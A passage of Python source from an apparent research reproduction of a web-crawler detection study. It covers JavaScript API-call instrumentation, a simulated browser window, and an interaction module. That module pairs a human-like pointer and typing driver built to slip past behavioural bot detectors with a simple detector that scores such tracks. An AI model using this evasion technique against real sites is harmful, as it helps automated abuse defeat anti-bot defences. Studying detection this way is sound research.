                wrapped.meta["openwpm_wrapped"] = True
                wrapped.meta["openwpm_original"] = desc
                first.properties[name] = wrapped
                installed += 1
        return installed

    def _wrap_descriptor(self, window: Any, scope: Scope, object_name: str,
                         name: str, desc: PropertyDescriptor,
                         methods_only: bool
                         ) -> Optional[PropertyDescriptor]:
        realm = window.realm
        interp = window.interp

        def make_wrapper(node, variables: Dict[str, Any]) -> ScriptFunction:
            # function_scope=True keeps each wrapper's closure variables
            # private instead of hoisting them into the shared injected
            # scope.
            wrapper_scope = Scope(parent=scope, function_scope=True)
            for var_name, var_value in variables.items():
                wrapper_scope.declare(var_name, var_value)
            previous_url = interp.current_script_url
            interp.current_script_url = INSTRUMENT_SCRIPT_URL
            try:
                wrapper = ScriptFunction(node, wrapper_scope, interp,
                                         lightweight=True)
            finally:
                interp.current_script_url = previous_url
            return wrapper

        if desc.is_accessor:
            original_get = desc.get
            original_set = desc.set
            get_native = NativeFunction(
                lambda i, t, a, g=original_get:
                g.call(i, t, []) if g is not None else UNDEFINED,
                name="originalGet", proto=realm.function_prototype)
            set_native = NativeFunction(
                lambda i, t, a, s=original_set:
                s.call(i, t, a) if s is not None else UNDEFINED,
                name="originalSet", proto=realm.function_prototype)
            new_desc = PropertyDescriptor.accessor(
                get=make_wrapper(_GET_NODE, {
                    "objectName": object_name, "propertyName": name,
                    "originalGet": get_native}),
                set=make_wrapper(_SET_NODE, {
                    "objectName": object_name, "propertyName": name,
                    "originalSet": set_native}),
                enumerable=desc.enumerable, configurable=True)
            return new_desc

        value = desc.value
        if isinstance(value, JSFunction):
            call_wrapper = make_wrapper(_CALL_NODE, {
                "objectName": object_name, "methodName": name,
                "func": value})
            # Access to the wrapped function itself goes through a getter;
            # reassignment attempts are recorded via the set wrapper (the
            # "hooks into setters and getters" protection, Sec. 5.1.1).
            set_native = NativeFunction(
                lambda i, t, a: UNDEFINED, name="originalSet",
                proto=realm.function_prototype)
            return PropertyDescriptor.accessor(
                get=make_wrapper(_METHOD_GET_NODE, {"func": call_wrapper}),
                set=make_wrapper(_SET_NODE, {
                    "objectName": object_name, "propertyName": name,
                    "originalSet": set_native}),
                enumerable=desc.enumerable, configurable=True)

        if methods_only:
            return None
        original_value = value
        get_native = NativeFunction(
            lambda i, t, a, v=original_value: v, name="originalGet",
            proto=realm.function_prototype)
        set_native = NativeFunction(
            lambda i, t, a: UNDEFINED, name="originalSet",
            proto=realm.function_prototype)
        return PropertyDescriptor.accessor(
            get=make_wrapper(_GET_NODE, {
                "objectName": object_name, "propertyName": name,
                "originalGet": get_native}),
            set=make_wrapper(_SET_NODE, {
                "objectName": object_name, "propertyName": name,
                "originalSet": set_native}),
            enumerable=desc.enumerable, configurable=True)

    # ==================================================================
    # Background end: receiving records
    # ==================================================================
    def _on_record(self, window: Any, event: Any, interp: Any) -> None:
        detail = event.detail
        data: Dict[str, Any] = {}
        if isinstance(detail, JSObject):
            try:
                data = js_to_python(detail, interp) or {}
            except TypeError:
                data = {}
        record = JSCallRecord(
            symbol=str(data.get("symbol", "")),
            operation=str(data.get("operation", "")),
            value=str(data.get("value", "")),
            arguments=str(data.get("arguments", "")),
            call_stack=str(data.get("callStack", "")),
            script_url=str(data.get("scriptUrl", "")),
            document_url=str(window.url),
        )
        self.records.append(record)
        self.telemetry.metrics.counter("records_written",
                                       instrument="js").inc()
        if self.storage is not None:
            self.storage.record_javascript(
                document_url=record.document_url,
                script_url=record.script_url,
                symbol=record.symbol,
                operation=record.operation,
                value=record.value,
                arguments=record.arguments,
                call_stack=record.call_stack)

    # ------------------------------------------------------------------
    def symbols_accessed(self) -> List[str]:
        return [record.symbol for record in self.records]

    def clear_records(self) -> None:
        self.records.clear()

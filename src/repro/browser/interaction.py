"""User-interaction simulation (clicking, scrolling, typing).

The paper's scan covers fingerprint-based detection only and names
behavioural detection (mouse tracking, Sec. 4.1.3; Goßen et al. [37])
as the channel it misses. This module supplies both sides of that
channel:

* :class:`SeleniumInteraction` — the interaction style of stock
  automation frameworks: instantaneous, perfectly straight, zero-jitter
  pointer jumps and constant-rate keystrokes;
* :class:`HumanLikeInteraction` — an HLISA-style driver: curved pointer
  paths with log-normal-ish timing jitter, overshoot, variable typing
  cadence, and incremental scrolling.

Events are delivered to the page as DOM events (``mousemove``,
``click``, ``scroll``, ``keydown``), so behavioural detector scripts can
observe them exactly like real ones do.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field
from typing import Any, List, Optional, Tuple

from repro.dom.events import DOMEvent
from repro.jsobject.objects import JSObject


@dataclass(frozen=True)
class PointerSample:
    """One synthesized pointer position."""

    x: float
    y: float
    #: Seconds since the previous sample.
    dt: float


class InteractionDriver:
    """Base class: event synthesis + delivery to a window."""

    name = "interaction"

    def __init__(self, rng: Optional[random.Random] = None) -> None:
        self.rng = rng or random.Random(0)

    # -- to be provided by concrete drivers ---------------------------
    def pointer_path(self, start: Tuple[float, float],
                     end: Tuple[float, float]) -> List[PointerSample]:
        raise NotImplementedError

    def keystroke_delays(self, text: str) -> List[float]:
        raise NotImplementedError

    def scroll_steps(self, distance: float) -> List[float]:
        raise NotImplementedError

    # -- high-level gestures -------------------------------------------
    def click(self, window: Any, target_selector: str = "body",
              start: Tuple[float, float] = (5.0, 5.0)) -> int:
        """Move to the target and click it; returns events delivered."""
        element = window.document.query_selector(target_selector)
        end = self._element_position(element)
        delivered = 0
        for sample in self.pointer_path(start, end):
            self._dispatch_pointer(window, "mousemove", sample)
            delivered += 1
        self._dispatch_pointer(window, "mousedown",
                               PointerSample(end[0], end[1], 0.03))
        self._dispatch_pointer(window, "mouseup",
                               PointerSample(end[0], end[1], 0.05))
        self._dispatch_pointer(window, "click",
                               PointerSample(end[0], end[1], 0.0))
        return delivered + 3

    def type_text(self, window: Any, text: str) -> int:
        for char, delay in zip(text, self.keystroke_delays(text)):
            event = DOMEvent("keydown", proto=window.dom.event)
            event.put("key", char)
            event.put("timeStamp", self._advance(window, delay))
            window.document.host_dispatch(event, window.interp)
        return len(text)

    def scroll(self, window: Any, distance: float = 800.0) -> int:
        position = 0.0
        steps = self.scroll_steps(distance)
        for step in steps:
            position += step
            event = DOMEvent("scroll", proto=window.dom.event)
            event.put("scrollY", position)
            event.put("timeStamp",
                      self._advance(window, abs(step) / 2000.0 + 0.016))
            window.document.host_dispatch(event, window.interp)
        return len(steps)

    # ------------------------------------------------------------------
    def _element_position(self, element: Any) -> Tuple[float, float]:
        if element is None:
            return (400.0, 300.0)
        seed = hash(element.tag_name + element.element_id) & 0xFFFF
        return (100.0 + seed % 800, 80.0 + seed % 500)

    def _advance(self, window: Any, dt: float) -> float:
        browser = window.browser
        browser.current_time += dt
        return browser.current_time * 1000.0

    def _dispatch_pointer(self, window: Any, event_type: str,
                          sample: PointerSample) -> None:
        event = DOMEvent(event_type, proto=window.dom.event)
        event.put("clientX", sample.x)
        event.put("clientY", sample.y)
        event.put("timeStamp", self._advance(window, sample.dt))
        window.document.host_dispatch(event, window.interp)


class SeleniumInteraction(InteractionDriver):
    """Framework-default interaction: teleporting pointer, metronome
    keys — the behaviour Goßen et al. showed is trivially recognisable."""

    name = "selenium"

    def pointer_path(self, start, end):
        # A single instantaneous jump to the exact target centre.
        return [PointerSample(end[0], end[1], 0.0)]

    def keystroke_delays(self, text):
        return [0.01] * len(text)  # perfectly constant cadence

    def scroll_steps(self, distance):
        return [distance]  # one programmatic jump


class HumanLikeInteraction(InteractionDriver):
    """HLISA-style driver: curved, jittered, overshooting movement."""

    name = "human-like"

    def pointer_path(self, start, end):
        samples: List[PointerSample] = []
        steps = max(8, int(math.dist(start, end) / 40))
        # Quadratic Bezier through a random control point (curvature).
        mid = ((start[0] + end[0]) / 2 + self.rng.uniform(-80, 80),
               (start[1] + end[1]) / 2 + self.rng.uniform(-60, 60))
        for index in range(1, steps + 1):
            t = index / steps
            x = ((1 - t) ** 2 * start[0] + 2 * (1 - t) * t * mid[0]
                 + t ** 2 * end[0])
            y = ((1 - t) ** 2 * start[1] + 2 * (1 - t) * t * mid[1]
                 + t ** 2 * end[1])
            x += self.rng.gauss(0, 1.2)
            y += self.rng.gauss(0, 1.2)
            # Ease in/out: slower near the endpoints.
            pace = 0.012 + 0.02 * abs(math.sin(math.pi * t))
            samples.append(PointerSample(
                x, y, max(0.004, self.rng.gauss(pace, pace / 4))))
        # Small overshoot + correction, a human staple.
        samples.append(PointerSample(end[0] + self.rng.uniform(2, 6),
                                     end[1] + self.rng.uniform(2, 6),
                                     0.03))
        samples.append(PointerSample(end[0], end[1], 0.05))
        return samples

    def keystroke_delays(self, text):
        delays = []
        for char in text:
            base = 0.09 if char.isalnum() else 0.14
            delays.append(max(0.03, self.rng.gauss(base, 0.035)))
        return delays

    def scroll_steps(self, distance):
        steps = []
        remaining = distance
        while remaining > 1:
            step = min(remaining,
                       max(40.0, self.rng.gauss(120.0, 35.0)))
            steps.append(step)
            remaining -= step
        return steps


# ---------------------------------------------------------------------------
# The detection side: behavioural scoring of observed event streams
# ---------------------------------------------------------------------------

@dataclass
class BehaviouralVerdict:
    """A behavioural detector's judgement over one event stream."""

    is_bot: bool
    score: float
    reasons: List[str] = field(default_factory=list)


#: JS source of a behavioural (mouse-track) detector site scripts ship;
#: it records pointer events and exposes them for server-side scoring.
BEHAVIOUR_COLLECTOR_SCRIPT = """
(function () {
    var track = [];
    document.addEventListener("mousemove", function (e) {
        track.push({x: e.clientX, y: e.clientY, t: e.timeStamp});
    });
    document.addEventListener("click", function (e) {
        track.push({x: e.clientX, y: e.clientY, t: e.timeStamp,
                    click: true});
    });
    window.__behaviourTrack = track;
})();
"""


def score_pointer_track(samples: List[dict]) -> BehaviouralVerdict:
    """Score a recorded pointer track the way commercial detectors do.

    Flags: no movement before a click (teleporting), zero timing
    variance, and perfectly collinear paths.
    """
    reasons: List[str] = []
    moves = [s for s in samples if not s.get("click")]
    clicks = [s for s in samples if s.get("click")]

    if clicks and len(moves) < 3:
        reasons.append("click without preceding pointer movement")
    if len(moves) >= 3:
        deltas = [moves[i + 1]["t"] - moves[i]["t"]
                  for i in range(len(moves) - 1)]
        mean = sum(deltas) / len(deltas)
        variance = sum((d - mean) ** 2 for d in deltas) / len(deltas)
        if variance < 1e-6:
            reasons.append("zero inter-event timing variance")
        if _collinear(moves):
            reasons.append("perfectly straight pointer path")
    score = min(1.0, len(reasons) / 2.0)
    return BehaviouralVerdict(is_bot=score >= 0.5, score=score,
                              reasons=reasons)


def _collinear(moves: List[dict]) -> bool:
    if len(moves) < 3:
        return True
    x0, y0 = moves[0]["x"], moves[0]["y"]
    x1, y1 = moves[-1]["x"], moves[-1]["y"]
    span = math.hypot(x1 - x0, y1 - y0) or 1.0
    for point in moves[1:-1]:
        distance = abs((x1 - x0) * (y0 - point["y"])
                       - (x0 - point["x"]) * (y1 - y0)) / span
        if distance > 0.75:
            return False
    return True


def extract_behaviour_track(window: Any) -> List[dict]:
    """Read back the collector script's recorded track."""
    from repro.jsengine.builtins import js_to_python

    track = window.window_object.get("__behaviourTrack", window.interp)
    if not isinstance(track, JSObject):
        return []
    data = js_to_python(track, window.interp)
    return list(data) if isinstance(data, list) else []

"""Browser windows: one JS world per frame.

A :class:`BrowserWindow` assembles, for one frame, the realm (globals +
builtins), the DOM prototypes and document, and the fingerprint-bearing
host objects (``navigator``, ``screen``, WebGL/2D canvas contexts,
``document.fonts``, timers, ``fetch``...). All of the paper's probing —
template traversal, probe lists, detector scripts — runs against these
objects through the interpreter.
"""

from __future__ import annotations

import base64
import hashlib
from typing import Any, Callable, List, Optional

from repro.browser.profiles import BrowserProfile
from repro.dom.csp import ContentSecurityPolicy, CSPViolation
from repro.dom.document import Document
from repro.dom.node import Element, IFrameElement, ScriptElement
from repro.dom.prototypes import DOMPrototypes
from repro.jsengine.builtins import Realm
from repro.jsengine.interpreter import (
    ExecutionBudgetExceeded,
    Interpreter,
    Scope,
)
from repro.jsobject.descriptors import PropertyDescriptor
from repro.jsobject.errors import JSError
from repro.jsobject.functions import JSFunction, NativeFunction
from repro.jsobject.objects import JSObject
from repro.jsobject.values import NULL, UNDEFINED
from repro.net.http import HttpResponse, ResourceType
from repro.net.page import PageSpec
from repro.net.url import URL


class ScriptExecutionError:
    """A script error captured during a page visit."""

    def __init__(self, script_url: str, message: str) -> None:
        self.script_url = script_url
        self.message = message

    def __repr__(self) -> str:
        return f"<ScriptExecutionError {self.script_url}: {self.message}>"


class BrowserWindow:
    """One frame: realm + document + fingerprint objects + host hooks."""

    def __init__(self, browser: Any, url: URL, page: Optional[PageSpec],
                 parent: Optional["BrowserWindow"] = None,
                 is_popup: bool = False) -> None:
        self.browser = browser
        self.profile: BrowserProfile = browser.profile
        self.url = url
        self.page = page
        self.parent = parent
        self.is_popup = is_popup
        self.child_frames: List[BrowserWindow] = []
        #: window index within the browser session (affects position).
        self.window_index = browser.next_window_index()

        self.realm = Realm(rng=browser.rng)
        self.interp = Interpreter(self.realm)
        self.dom = DOMPrototypes(self.realm)
        csp = ContentSecurityPolicy.parse(page.csp_header) \
            if page is not None and page.csp_header \
            else ContentSecurityPolicy.none()
        self.document = Document(
            url, csp=csp, proto=self.dom.document,
            element_proto_for=self.dom.proto_for_tag)
        self.document.window_host = self

        self.window_object = self.realm.global_object
        self.navigator_proto: Optional[JSObject] = None
        self.screen_proto: Optional[JSObject] = None
        self.webgl_context: Optional[JSObject] = None
        self.context_2d: Optional[JSObject] = None

        self._build_window_graph()

    # ==================================================================
    # Window graph construction
    # ==================================================================
    def _build_window_graph(self) -> None:
        window = self.window_object
        profile = self.profile

        window.put("window", window, enumerable=False)
        window.put("self", window, enumerable=False)
        window.put("globalThis", window, enumerable=False)
        window.put("document", self.document, enumerable=False)
        window.put("CustomEvent", self.dom.make_event_constructor(),
                   enumerable=False)
        window.put("Event", self.dom.make_event_constructor(),
                   enumerable=False)

        self._install_navigator()
        self._install_screen()
        self._install_geometry()
        self._install_timers()
        self._install_network_api()
        self._install_misc_api()
        self._install_frames_accessors()

    # ------------------------------------------------------------------
    def _accessor(self, target: JSObject, name: str,
                  getter: Callable[[Any, Any, List[Any]], Any],
                  setter: Optional[Callable] = None,
                  enumerable: bool = True) -> None:
        get_fn = NativeFunction(getter, name=f"get {name}",
                                proto=self.realm.function_prototype,
                                masquerade_name=name)
        set_fn = None
        if setter is not None:
            set_fn = NativeFunction(setter, name=f"set {name}",
                                    proto=self.realm.function_prototype,
                                    masquerade_name=name)
        target.define_property(name, PropertyDescriptor.accessor(
            get=get_fn, set=set_fn, enumerable=enumerable))

    def _value_accessor(self, target: JSObject, name: str, value: Any,
                        enumerable: bool = True) -> None:
        self._accessor(target, name, lambda i, t, a, v=value: v,
                       enumerable=enumerable)

    # ------------------------------------------------------------------
    def _install_navigator(self) -> None:
        proto = JSObject(proto=self.realm.object_prototype,
                         class_name="NavigatorPrototype")
        self.navigator_proto = proto
        navigator = JSObject(proto=proto, class_name="Navigator")

        for name, value in self.profile.navigator.items():
            if name == "languages":
                languages = self.realm.new_array(list(value))
                for index, extra in enumerate(self.profile.languages_extra):
                    languages.put(extra, f"pollution-{index}")
                self._value_accessor(proto, name, languages)
            else:
                js_value = float(value) if isinstance(value, (int,)) \
                    and not isinstance(value, bool) else value
                self._value_accessor(proto, name, js_value)

        def send_beacon(interp, this, args):
            target = interp.to_string(args[0]) if interp and args else ""
            self.issue_request(target, ResourceType.BEACON)
            return True

        proto.put("sendBeacon",
                  NativeFunction(send_beacon, name="sendBeacon",
                                 proto=self.realm.function_prototype),
                  enumerable=False)
        self.window_object.put("navigator", navigator, enumerable=False)

    # ------------------------------------------------------------------
    def _install_screen(self) -> None:
        proto = JSObject(proto=self.dom.event_target,
                         class_name="ScreenPrototype")
        self.screen_proto = proto
        screen = JSObject(proto=proto, class_name="Screen")
        for name, value in self.profile.screen.items():
            self._value_accessor(proto, name, value)
        self.window_object.put("screen", screen, enumerable=False)

    # ------------------------------------------------------------------
    def _install_geometry(self) -> None:
        window = self.window_object
        width, height = self.profile.window_size
        base_x, base_y = self.profile.window_position
        offset_x, offset_y = self.profile.window_offset
        x = base_x + offset_x * self.window_index
        y = base_y + offset_y * self.window_index

        self._value_accessor(window, "innerWidth", float(width),
                             enumerable=False)
        self._value_accessor(window, "innerHeight", float(height),
                             enumerable=False)
        self._value_accessor(window, "outerWidth", float(width),
                             enumerable=False)
        self._value_accessor(window, "outerHeight", float(height + 85),
                             enumerable=False)
        self._value_accessor(window, "screenX", float(x), enumerable=False)
        self._value_accessor(window, "screenY", float(y), enumerable=False)
        self._value_accessor(window, "mozInnerScreenX", float(x),
                             enumerable=False)
        self._value_accessor(window, "mozInnerScreenY", float(y),
                             enumerable=False)
        self._value_accessor(window, "devicePixelRatio", 1.0,
                             enumerable=False)

    # ------------------------------------------------------------------
    def _install_timers(self) -> None:
        window = self.window_object

        def set_timeout(interp, this, args):
            fn = args[0] if args else UNDEFINED
            delay = float(args[1]) / 1000.0 \
                if len(args) > 1 and isinstance(args[1], (int, float)) \
                else 0.0
            if isinstance(fn, JSFunction):
                return float(self.browser.schedule(
                    lambda: self._run_callback(fn), delay))
            return 0.0

        def clear_timeout(interp, this, args):
            if args and isinstance(args[0], (int, float)):
                self.browser.cancel_scheduled(int(args[0]))
            return UNDEFINED

        window.put("setTimeout",
                   NativeFunction(set_timeout, name="setTimeout",
                                  proto=self.realm.function_prototype),
                   enumerable=False)
        window.put("setInterval",
                   NativeFunction(set_timeout, name="setInterval",
                                  proto=self.realm.function_prototype),
                   enumerable=False)
        window.put("clearTimeout",
                   NativeFunction(clear_timeout, name="clearTimeout",
                                  proto=self.realm.function_prototype),
                   enumerable=False)
        window.put("clearInterval",
                   NativeFunction(clear_timeout, name="clearInterval",
                                  proto=self.realm.function_prototype),
                   enumerable=False)

    def _run_callback(self, fn: JSFunction) -> None:
        try:
            fn.call(self.interp, UNDEFINED, [])
        except (JSError, ExecutionBudgetExceeded) as exc:
            self.browser.script_errors.append(
                ScriptExecutionError(str(self.url), str(exc)))

    # ------------------------------------------------------------------
    def _install_network_api(self) -> None:
        window = self.window_object

        def fetch(interp, this, args):
            target = interp.to_string(args[0]) if interp and args else ""
            response = self.issue_request(target, ResourceType.XHR)
            return self._make_fetch_response(response)

        window.put("fetch", NativeFunction(
            fetch, name="fetch", proto=self.realm.function_prototype),
            enumerable=False)

        def make_xhr(interp, args):
            xhr = JSObject(proto=self.realm.object_prototype,
                           class_name="XMLHttpRequest")
            state = {"url": "", "response": None}

            def xhr_open(interp2, this2, args2):
                if len(args2) >= 2:
                    state["url"] = interp2.to_string(args2[1]) if interp2 \
                        else str(args2[1])
                return UNDEFINED

            def xhr_send(interp2, this2, args2):
                response = self.issue_request(state["url"], ResourceType.XHR)
                state["response"] = response
                xhr.put("status", float(response.status
                                        if response is not None else 0))
                xhr.put("responseText",
                        response.body if response is not None else "")
                handler = xhr.get("onload", interp2)
                if isinstance(handler, JSFunction):
                    handler.call(interp2, xhr, [])
                return UNDEFINED

            xhr.put("open", NativeFunction(
                xhr_open, name="open", proto=self.realm.function_prototype))
            xhr.put("send", NativeFunction(
                xhr_send, name="send", proto=self.realm.function_prototype))
            return xhr

        window.put("XMLHttpRequest", NativeFunction(
            lambda interp, this, args: make_xhr(interp, args),
            name="XMLHttpRequest", proto=self.realm.function_prototype,
            constructor=make_xhr), enumerable=False)

        def make_image(interp, args):
            img = self.document.create_element("img")
            return img

        window.put("Image", NativeFunction(
            lambda interp, this, args: make_image(interp, args),
            name="Image", proto=self.realm.function_prototype,
            constructor=make_image), enumerable=False)

        def make_websocket(interp, args):
            target = interp.to_string(args[0]) if interp and args else ""
            socket = JSObject(proto=self.realm.object_prototype,
                              class_name="WebSocket")
            socket.put("url", target)
            socket.put("readyState", 0.0)
            socket.put("send", NativeFunction(
                lambda i, t, a: UNDEFINED, name="send",
                proto=self.realm.function_prototype), enumerable=False)
            socket.put("close", NativeFunction(
                lambda i, t, a: UNDEFINED, name="close",
                proto=self.realm.function_prototype), enumerable=False)
            # The handshake is an HTTP upgrade request.
            self.issue_request(target.replace("wss://", "https://")
                               .replace("ws://", "http://"),
                               ResourceType.WEBSOCKET)
            return socket

        window.put("WebSocket", NativeFunction(
            lambda interp, this, args: make_websocket(interp, args),
            name="WebSocket", proto=self.realm.function_prototype,
            constructor=make_websocket), enumerable=False)

    def _make_fetch_response(self, response: Optional[HttpResponse]
                             ) -> JSObject:
        """A synchronously-resolved, thenable Response (promise-lite)."""
        body = response.body if response is not None else ""
        status = float(response.status) if response is not None else 0.0

        def make_thenable(value: Any) -> JSObject:
            thenable = JSObject(proto=self.realm.object_prototype,
                                class_name="Promise")

            def then(interp, this, args):
                fn = args[0] if args else UNDEFINED
                result = value
                if isinstance(fn, JSFunction):
                    result = fn.call(interp, UNDEFINED, [value])
                if isinstance(result, JSObject) and isinstance(
                        result.get_own_descriptor("then"),
                        PropertyDescriptor):
                    return result
                return make_thenable(result)

            def catch(interp, this, args):
                return thenable

            thenable.put("then", NativeFunction(
                then, name="then", proto=self.realm.function_prototype),
                enumerable=False)
            thenable.put("catch", NativeFunction(
                catch, name="catch", proto=self.realm.function_prototype),
                enumerable=False)
            return thenable

        response_object = JSObject(proto=self.realm.object_prototype,
                                   class_name="Response")
        response_object.put("status", status)
        response_object.put("ok", 200 <= status < 300)

        def text(interp, this, args):
            return make_thenable(body)

        response_object.put("text", NativeFunction(
            text, name="text", proto=self.realm.function_prototype))
        return make_thenable(response_object)

    # ------------------------------------------------------------------
    def _install_misc_api(self) -> None:
        window = self.window_object

        def js_eval(interp, this, args):
            source = args[0] if args else UNDEFINED
            if not isinstance(source, str):
                return source
            if not self.document.csp.allows_eval():
                self.report_csp_violation("script-src", "eval")
                raise JSError.type_error("call to eval() blocked by CSP")
            return self.run_script(source, script_url=f"{self.url}#eval",
                                   raise_errors=True, via_eval=True)

        window.put("eval", NativeFunction(
            js_eval, name="eval", proto=self.realm.function_prototype),
            enumerable=False)

        def window_open(interp, this, args):
            target = interp.to_string(args[0]) if interp and args else ""
            popup = self.browser.open_popup(target, opener=self)
            return popup.window_object if popup is not None else NULL

        window.put("open", NativeFunction(
            window_open, name="open", proto=self.realm.function_prototype),
            enumerable=False)

        def btoa(interp, this, args):
            text = interp.to_string(args[0]) if interp and args else ""
            return base64.b64encode(text.encode("latin-1")).decode("ascii")

        def atob(interp, this, args):
            text = interp.to_string(args[0]) if interp and args else ""
            try:
                return base64.b64decode(text.encode("ascii")).decode("latin-1")
            except Exception as exc:  # noqa: BLE001 - surfaced as DOM error
                raise JSError.type_error(f"atob: invalid input: {exc}")

        window.put("btoa", NativeFunction(
            btoa, name="btoa", proto=self.realm.function_prototype),
            enumerable=False)
        window.put("atob", NativeFunction(
            atob, name="atob", proto=self.realm.function_prototype),
            enumerable=False)

        # location
        location = JSObject(proto=self.realm.object_prototype,
                            class_name="Location")
        location.put("href", str(self.url))
        location.put("host", self.url.host)
        location.put("hostname", self.url.host)
        location.put("pathname", self.url.path)
        location.put("protocol", self.url.scheme + ":")
        location.put("origin", self.url.origin)
        window.put("location", location, enumerable=False)
        self.document.put("location", location, enumerable=False)
        self.document.put("URL", str(self.url), enumerable=False)

        # document.fonts (font enumeration channel, Sec. 3.1.3)
        fonts = JSObject(proto=self.realm.object_prototype,
                         class_name="FontFaceSet")
        available = set(self.profile.fonts)

        def fonts_check(interp, this, args):
            spec = interp.to_string(args[0]) if interp and args else ""
            family = spec.split("px", 1)[-1].strip().strip('"\'')
            return family in available

        fonts.put("check", NativeFunction(
            fonts_check, name="check", proto=self.realm.function_prototype),
            enumerable=False)
        self.document.put("fonts", fonts, enumerable=False)

        # Date (only what fingerprinting needs: timezone + clock)
        def make_date(interp, args):
            date = JSObject(proto=self.realm.object_prototype,
                            class_name="Date")
            now_ms = self.browser.current_time * 1000.0

            date.put("getTimezoneOffset", NativeFunction(
                lambda i, t, a: float(self.profile.timezone_offset),
                name="getTimezoneOffset",
                proto=self.realm.function_prototype), enumerable=False)
            date.put("getTime", NativeFunction(
                lambda i, t, a: now_ms, name="getTime",
                proto=self.realm.function_prototype), enumerable=False)
            return date

        date_constructor = NativeFunction(
            lambda interp, this, args: make_date(interp, args),
            name="Date", proto=self.realm.function_prototype,
            constructor=make_date)
        date_constructor.put("now", NativeFunction(
            lambda i, t, a: self.browser.current_time * 1000.0,
            name="now", proto=self.realm.function_prototype),
            enumerable=False)
        window.put("Date", date_constructor, enumerable=False)

        # localStorage
        storage = JSObject(proto=self.realm.object_prototype,
                           class_name="Storage")
        backing = self.browser.local_storage_for(self.url.origin)

        def get_item(interp, this, args):
            key = interp.to_string(args[0]) if interp and args else ""
            return backing.get(key, NULL)

        def set_item(interp, this, args):
            if len(args) >= 2:
                key = interp.to_string(args[0]) if interp else str(args[0])
                backing[key] = interp.to_string(args[1]) if interp \
                    else str(args[1])
            return UNDEFINED

        storage.put("getItem", NativeFunction(
            get_item, name="getItem", proto=self.realm.function_prototype),
            enumerable=False)
        storage.put("setItem", NativeFunction(
            set_item, name="setItem", proto=self.realm.function_prototype),
            enumerable=False)
        window.put("localStorage", storage, enumerable=False)

        self._install_canvas_contexts()
        self._install_performance_history()

    # ------------------------------------------------------------------
    def _make_interface(self, name: str,
                        parent_proto: Optional[JSObject] = None
                        ) -> "tuple[NativeFunction, JSObject]":
        """Create a DOM-style interface: constructor + prototype pair."""
        proto = JSObject(
            proto=parent_proto or self.realm.object_prototype,
            class_name=f"{name}Prototype")
        constructor = NativeFunction(
            lambda interp, this, args: UNDEFINED, name=name,
            proto=self.realm.function_prototype)
        constructor.put("prototype", proto, writable=False, enumerable=False)
        proto.put("constructor", constructor, enumerable=False)
        self.window_object.put(name, constructor, enumerable=False)
        return constructor, proto

    def _put_noop_methods(self, proto: JSObject, names: List[str]) -> None:
        for method_name in names:
            proto.put(method_name, NativeFunction(
                lambda i, t, a: UNDEFINED, name=method_name,
                proto=self.realm.function_prototype), enumerable=False)

    def _install_canvas_contexts(self) -> None:
        from repro.browser.api_surface import (
            AUDIO_METHODS,
            CANVAS_2D_METHODS,
            WEBGL_METHODS,
        )

        profile = self.profile
        # The WebGLRenderingContext *interface* exists in every mode —
        # headless Firefox merely fails to create contexts — so the JS
        # instrument wraps the same method surface everywhere (Table 2's
        # tampering count is mode-independent). The ~2k parameter
        # constants only exist where a real implementation backs them.
        _, webgl_proto = self._make_interface("WebGLRenderingContext",
                                              self.dom.event_target)
        self._put_noop_methods(
            webgl_proto,
            [m for m in WEBGL_METHODS
             if m not in ("getParameter", "getExtension")])
        if profile.webgl is not None:
            # The ~2k WebGL parameters are identical for every window of
            # a profile; share immutable data descriptors across windows.
            shared = getattr(profile, "_webgl_descriptors", None)
            if shared is None:
                shared = {
                    name: PropertyDescriptor.data(value, writable=False)
                    for name, value in profile.webgl.items()}
                profile._webgl_descriptors = shared
            webgl_proto.properties.update(shared)
            context = JSObject(proto=webgl_proto,
                               class_name="WebGLRenderingContext")

            def get_parameter(interp, this, args):
                key = interp.to_string(args[0]) if interp and args else ""
                return profile.webgl.get(key, NULL)

            def get_extension(interp, this, args):
                name = interp.to_string(args[0]) if interp and args else ""
                if name == "WEBGL_debug_renderer_info":
                    info = JSObject(proto=self.realm.object_prototype)
                    info.put("UNMASKED_VENDOR_WEBGL", "UNMASKED_VENDOR_WEBGL")
                    info.put("UNMASKED_RENDERER_WEBGL",
                             "UNMASKED_RENDERER_WEBGL")
                    return info
                return NULL

            webgl_proto.put("getParameter", NativeFunction(
                get_parameter, name="getParameter",
                proto=self.realm.function_prototype), enumerable=False)
            webgl_proto.put("getExtension", NativeFunction(
                get_extension, name="getExtension",
                proto=self.realm.function_prototype), enumerable=False)
            self.webgl_context = context
        else:
            self._put_noop_methods(webgl_proto,
                                   ["getParameter", "getExtension"])
            self.webgl_context = None

        # 2D context: real font measurement (enumeration channel) plus the
        # full method surface the instrument wraps.
        _, context_2d_proto = self._make_interface("CanvasRenderingContext2D")
        self._put_noop_methods(
            context_2d_proto,
            [m for m in CANVAS_2D_METHODS if m != "measureText"])
        context_2d = JSObject(proto=context_2d_proto,
                              class_name="CanvasRenderingContext2D")
        context_2d.put("font", "10px sans-serif")
        available = set(profile.fonts)

        def measure_text(interp, this, args):
            text = interp.to_string(args[0]) if interp and args else ""
            font_spec = context_2d.get("font", interp)
            family = str(font_spec).split("px", 1)[-1].strip().strip('"\'')
            if family in available:
                seed = int(hashlib.sha256(
                    family.encode()).hexdigest()[:4], 16)
                width = len(text) * (6.0 + (seed % 7))
            else:
                width = len(text) * 6.0  # fallback font metrics
            metrics = JSObject(proto=self.realm.object_prototype,
                               class_name="TextMetrics")
            metrics.put("width", width)
            return metrics

        context_2d_proto.put("measureText", NativeFunction(
            measure_text, name="measureText",
            proto=self.realm.function_prototype), enumerable=False)
        self.context_2d = context_2d

        # Audio fingerprinting surface.
        _, audio_proto = self._make_interface("OfflineAudioContext",
                                              self.dom.event_target)
        self._put_noop_methods(audio_proto, AUDIO_METHODS)
        audio_proto.put("sampleRate", 44100.0, enumerable=False)

    def _install_performance_history(self) -> None:
        from repro.browser.api_surface import (
            HISTORY_METHODS,
            PERFORMANCE_METHODS,
        )

        _, performance_proto = self._make_interface("Performance",
                                                    self.dom.event_target)
        self._put_noop_methods(
            performance_proto,
            [m for m in PERFORMANCE_METHODS if m != "now"])
        performance_proto.put("now", NativeFunction(
            lambda i, t, a: self.browser.current_time * 1000.0,
            name="now", proto=self.realm.function_prototype),
            enumerable=False)
        performance = JSObject(proto=performance_proto,
                               class_name="Performance")
        performance.put("timeOrigin", 0.0, enumerable=False)
        self.window_object.put("performance", performance, enumerable=False)

        _, history_proto = self._make_interface("History")
        self._put_noop_methods(history_proto, HISTORY_METHODS)
